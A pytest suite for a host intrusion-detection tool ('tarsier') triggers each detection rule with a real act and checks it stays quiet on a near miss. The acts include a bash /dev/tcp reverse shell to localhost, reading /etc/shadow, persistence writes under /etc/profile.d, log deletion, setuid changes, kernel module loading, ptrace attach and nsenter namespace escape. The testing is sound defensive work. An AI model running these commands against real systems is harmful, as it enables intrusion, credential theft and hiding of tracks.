"""Every starter rule fires on a real act, seen live, and stays silent on a near miss."""
import contextlib
import fcntl
import os
import pathlib
import pty
import shutil
import signal
import socket
import subprocess
import sys
import termios
import threading

import pytest
import watch_harness
from watch_harness import Watch

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root")
PTRACE_TRACEME, PTRACE_SEIZE = 0, 0x4206


def run(*argv, **options):
    """The pid of a program that ran to its end."""
    options = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL} | options
    process = subprocess.Popen([str(word) for word in argv], **options)
    process.wait(60)
    return process.pid


def python(code, *argv):
    return run(sys.executable, "-c", code, *argv)


def needs(program):
    if not shutil.which(program):
        pytest.skip(f"needs {program}")
    return program


class Container:
    """A cgroup as Docker names them, in every hierarchy there is; enter() is for preexec_fn."""

    def __init__(self):
        self.id = os.urandom(32).hex()
        v2 = [path for path in ("/sys/fs/cgroup/unified", "/sys/fs/cgroup")
              if os.path.exists(f"{path}/cgroup.controllers")]
        v1 = [path for path in ("/sys/fs/cgroup/pids",) if os.path.exists(f"{path}/cgroup.procs")]
        self.groups = [pathlib.Path(base, f"tarsier-test-{os.getpid()}", "docker", self.id) for base in (v2[:1] + v1)]
        if not v2:
            pytest.skip("needs cgroup v2")

    def __enter__(self):
        for group in self.groups:
            group.mkdir(parents=True)
        return self

    def __exit__(self, *exception):
        for group in self.groups:
            for directory in (group, group.parent, group.parent.parent):
                directory.rmdir()

    def enter(self):
        for group in self.groups:
            (group / "cgroup.procs").write_text("0")


class Acts:
    """One method a rule: fires_… and silent_…; each returns the pids whose events are meant."""

    def __init__(self, watch, directory):
        self.watch, self.directory = watch, directory

    def copy(self, program, name):
        path = self.directory / name
        if not path.exists():
            shutil.copy(shutil.which(program), path)
        return path

    # reverse-shell
    def fires_reverse_shell(self):
        with socket.create_server(("127.0.0.1", 0)) as server:
            port = server.getsockname()[1]

            def answer():
                client = server.accept()[0]
                client.sendall(b"exit\n")
                with contextlib.suppress(OSError):
                    while client.recv(4096):
                        pass

            thread = threading.Thread(target=answer)
            thread.start()
            pid = run("bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1", start_new_session=True)
            thread.join(30)
        return [pid]

    def silent_reverse_shell(self):
        with socket.create_server(("127.0.0.1", 0)) as server:
            return [run("bash", "-c", f"(echo > /dev/tcp/127.0.0.1/{server.getsockname()[1]}) 2>&1")]

    # shell-in-container; bash waits, so that its group is still there when it is looked at
    def shell(self, container, terminal):
        master, slave = pty.openpty()
        read, write = os.pipe()

        def prepare():
            container.enter()
            os.setsid()
            if terminal:
                fcntl.ioctl(slave, termios.TIOCSCTTY, 0)

        process = subprocess.Popen(["bash", "-c", "read line"], stdin=read, stdout=slave if terminal else subprocess.DEVNULL,
                                   stderr=subprocess.DEVNULL, preexec_fn=prepare, pass_fds=[slave])
        self.watch.wait_for(lambda e: e["type"] == "exec" and e["process"]["pid"] == process.pid)
        os.close(write)
        process.wait(60)
        for fd in (read, master, slave):
            os.close(fd)
        return [process.pid]

    def fires_shell_in_container(self):
        with Container() as container:
            return self.shell(container, True)

    def silent_shell_in_container(self):
        with Container() as container:
            return self.shell(container, False)

    # service-shell
    def fires_service_shell(self):
        return [run(self.copy("bash", "nginx"), "-c", "/bin/sh -c true; true")]

    def silent_service_shell(self):
        return [run(self.copy("bash", "mynginx"), "-c", "/bin/sh -c true; true")]

    # package-manager-in-container: below a shell that waits in the group
    def package_manager(self, container, *argv):
        read, write = os.pipe()
        process = subprocess.Popen(["sh", "-c", 'read line; "$@"; read line', "sh", *argv], stdin=read,
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                   preexec_fn=container.enter if container else None)
        self.watch.wait_for(lambda e: e["type"] == "exec" and e["process"]["pid"] == process.pid)
        os.write(write, b"\n")
        self.watch.wait_for(lambda e: e["type"] == "exec" and e["process"]["ppid"] == process.pid)
        os.close(write)
        process.wait(60)
        os.close(read)
        return [process.pid]

    def fires_package_manager_in_container(self):
        with Container() as container:
            return self.package_manager(container, needs("dpkg"), "--unpack", "/nonexistent.deb")

    def silent_package_manager_in_container(self):
        with Container() as container:
            inside = self.package_manager(container, needs("dpkg"), "-l", "base-files")
        return inside + self.package_manager(None, "dpkg", "--unpack", "/nonexistent.deb")

    # setuid-bit: the system call where it is watched, else the program
    def file(self):
        path = self.directory / "file"
        path.write_text("x")
        return path

    def fires_setuid_bit(self):
        return [run("chmod", "u+s", self.file())]

    def fires_setuid_bit_by_call(self):
        return [python("import os, sys; os.chmod(sys.argv[1], 0o4700)", self.file())]

    def silent_setuid_bit(self):
        return [run("chmod", "0700", self.file()), run("chmod", "g+s", self.file()),
                python("import os, sys; os.chmod(sys.argv[1], 0o2700)", self.file())]

    # kernel-module
    def tool(self, name, *argv):
        """kmod's, or busybox's of the same name."""
        if shutil.which(name):
            return run(name, *argv)
        return run(name, *argv, executable=shutil.which(needs("busybox")))

    def fires_kernel_module(self):
        return [self.tool("insmod", self.directory / "none.ko")]

    def fires_kernel_module_by_call(self):
        return [python("import ctypes; ctypes.CDLL(None).syscall(175, 0, 0, b'')")]  # init_module of nothing

    def silent_kernel_module(self):
        return [self.tool("lsmod")]

    # persistence-write: a file of one comment
    def fires_persistence_write_by_call(self):
        path = "/etc/profile.d/tarsier-test.sh"
        try:
            return [python("import sys; open(sys.argv[1], 'w').write('# a test of tarsier\\n')", path)]
        finally:
            pathlib.Path(path).unlink(missing_ok=True)

    def silent_persistence_write(self):
        path = "/etc/tarsier-test"
        try:
            return [python("import sys; open(sys.argv[1], 'w').write('x')", path),
                    python("import os; os.listdir('/etc/profile.d'); open('/etc/profile').read()")]
        finally:
            pathlib.Path(path).unlink(missing_ok=True)

    # log-tampering
    def log(self):
        path = pathlib.Path("/var/log/tarsier-test.log")
        path.write_text("x\n")
        return path

    def fires_log_tampering(self):
        return [run("rm", self.log())]

    def fires_log_tampering_by_call(self):
        return [python("import os, sys; os.unlink(sys.argv[1])", self.log())]

    def silent_log_tampering(self):
        path = self.log()
        try:
            return [run("tail", path), python("import sys; open(sys.argv[1], 'a').write('y')", path)]
        finally:
            path.unlink()

    # exec-from-temp
    def fires_exec_from_temp(self):
        return [run(self.copy("true", "program"))]

    def fires_exec_from_memory(self):
        return [python("import os; fd = os.memfd_create('program'); os.write(fd, open('/bin/true', 'rb').read()); "
                       "os.execve(fd, ['program'], {})")]

    def silent_exec_from_temp(self):
        script = self.directory / "script.sh"
        script.write_text("true\n")
        return [run("sh", script)]

    # ptrace-attach
    def ptrace(self, request):
        code = ("import ctypes, os, sys, time\n"
                "libc = ctypes.CDLL(None, use_errno=True)\n"
                "request = int(sys.argv[1])\n"
                "child = os.fork()\n"
                "if not child:\n"
                "    if request == 0: libc.ptrace(0, 0, 0, 0)\n"
                "    os.read(int(sys.argv[2]), 1); os._exit(0)\n"
                "if request: libc.ptrace(request, child, 0, 0)\n"
                "os.kill(child, 9); os.waitpid(child, 0)\n")
        read, write = os.pipe()
        try:
            return [run(sys.executable, "-c", code, request, read, pass_fds=[read])]
        finally:
            os.close(read)
            os.close(write)

    def fires_ptrace_attach(self):
        return self.ptrace(PTRACE_SEIZE)

    def silent_ptrace_attach(self):
        return self.ptrace(PTRACE_TRACEME)

    # account-change: opened for writing, and nothing written
    def fires_account_change(self):
        return [run(needs("useradd"), "--help")]

    def fires_account_change_by_call(self):
        return [python("open('/etc/passwd', 'a').close()")]

    def silent_account_change(self):
        return [python("open('/etc/passwd').read()"), run(needs("getent"), "passwd", "root")]

    # container-escape
    def fires_container_escape(self):
        return [run(needs("nsenter"), "-t", "1", "-u", "true")]

    def silent_container_escape(self):
        return [run(needs("nsenter"), "-t", os.getpid(), "-u", "true")]

    # credential-read
    def fires_credential_read(self):
        return [run("cat", "/etc/shadow")]

    def silent_credential_read(self):
        return [run("ls", "-l", "/etc/shadow"), run("cat", "/etc/passwd")]

    # crash-storm
    def crash(self, name, number):
        victim = self.copy("bash", name)
        return [run(victim, "-c", f"ulimit -c 0; kill -{number} $$") for _ in range(5)]

    def fires_crash_storm(self):
        return self.crash("victim", int(signal.SIGSEGV))

    def silent_crash_storm(self):
        return self.crash("victim2", int(signal.SIGTERM))


RULES = ["reverse-shell", "shell-in-container", "service-shell", "package-manager-in-container", "setuid-bit",
         "kernel-module", "persistence-write", "log-tampering", "exec-from-temp", "ptrace-attach", "account-change",
         "container-escape", "credential-read", "crash-storm"]
# what only files and system calls that audit watches can tell
CALLS = ["setuid-bit", "kernel-module", "persistence-write", "log-tampering", "account-change"]
CASES = [("audit", rule, f"fires_{rule.replace('-', '_')}") for rule in RULES if rule != "persistence-write"]
CASES += [("audit", rule, f"fires_{rule.replace('-', '_')}_by_call") for rule in CALLS]
CASES += [("bpf", rule, f"fires_{rule.replace('-', '_')}") for rule in RULES if rule != "persistence-write"]
CASES += [(source, "exec-from-temp", "fires_exec_from_memory") for source in ("audit", "bpf")]
CASES += [(source, rule, f"silent_{rule.replace('-', '_')}") for source in ("audit", "bpf") for rule in RULES]


@pytest.fixture(scope="module")
def watches(tarsier, tmp_path_factory):
    """The running watch of each source, one at a time."""
    with contextlib.ExitStack() as stack:
        running = {}

        def get(source):
            if source not in running:
                stack.close()
                running.clear()
                stack.enter_context(watch_harness.alone())
                directory = tmp_path_factory.mktemp(source)
                watch = stack.enter_context(Watch(tarsier, directory, "--source", source, "--rules", "starter"))
                stack.callback(watch.finish)
                watch.wait_ready()
                running[source] = Acts(watch, directory)
            return running[source]

        yield get


def is_of(event, pids):
    process = event.get("process", {})
    return process.get("pid") in pids or any(a["pid"] in pids for a in process.get("ancestors", []))


@pytest.mark.parametrize("source,rule,act", sorted(CASES), ids=lambda value: str(value))
def test_rule(watches, source, rule, act):
    acts = watches(source)
    since = len(acts.watch.events)
    pids = getattr(acts, act)()
    if act.startswith("fires"):
        event = acts.watch.wait_for(lambda e: rule in e.get("tags", []) and is_of(e, pids), 60, since)
        assert any(rule in alert for alert in event.get("alerts", [])), event
        return
    acts.watch.wait_settled()
    acts.watch.pump()
    wrong = [event for event in acts.watch.events[since:] if rule in event.get("tags", []) and is_of(event, pids)]
    assert not wrong, f"{rule} fires on {wrong[0]}"
    assert any(is_of(event, pids) for event in acts.watch.events[since:]), "the act was not seen"
